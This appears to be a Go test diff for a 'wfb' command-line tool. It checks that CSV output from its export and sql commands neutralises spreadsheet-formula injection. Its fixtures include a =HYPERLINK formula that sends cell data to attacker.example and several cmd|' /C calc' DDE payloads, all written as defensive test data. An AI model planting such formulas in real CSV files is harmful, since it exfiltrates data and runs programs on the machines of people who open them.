@@ -2,6 +2,7 @@ package main
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"strings"
 	"testing"
@@ -103,3 +104,45 @@ func TestAMarkdownReportFetchesNothingAnAgentLinked(t *testing.T) {
 	}
 }
 
+// TestACSVExportOpensWithoutRunningAnAgentsFormula stops a spreadsheet
+// from running an error detail as a formula when `wfb export` or `wfb sql`
+// CSV is opened (=HYPERLINK sends data off; =cmd|… runs a program on old
+// Excel): a text cell starting with = + - @ or a tab gets a leading ';
+// text that is a number keeps its sign.
+func TestACSVExportOpensWithoutRunningAnAgentsFormula(t *testing.T) {
+	for _, tc := range []struct{ detail, want string }{
+		{`=HYPERLINK("http://attacker.example/?d="&A1,"help")`, `'=HYPERLINK("http://attacker.example/?d="&A1,"help")`},
+		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
+		{`+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
+		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
+		{"\t=1+1", "'\t=1+1"},
+		{"-12.5", "-12.5"},
+		{"exit status 1", "exit status 1"},
+	} {
+		t.Run(tc.detail, func(t *testing.T) {
+			db := hostileFile(t, tc.detail)
+			for _, args := range [][]string{
+				{"export", "hostile", "--db", db, "--format", "csv"},
+				{"sql", "--db", db, "--format", "csv", "SELECT error_detail FROM results"},
+			} {
+				out, errOut, code := wfbCmd(t, args...)
+				if code != exitOK {
+					t.Fatalf("%s: exit %d: %s", args[0], code, errOut)
+				}
+				recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+				if err != nil || len(recs) != 2 {
+					t.Fatalf("%s: %d records (%v):\n%s", args[0], len(recs), err, out)
+				}
+				col := -1
+				for i, name := range recs[0] {
+					if name == "error_detail" {
+						col = i
+					}
+				}
+				if col < 0 || recs[1][col] != tc.want {
+					t.Errorf("%s: error_detail cell %q, want %q", args[0], recs[1][max(col, 0)], tc.want)
+				}
+			}
+		})
+	}
+}
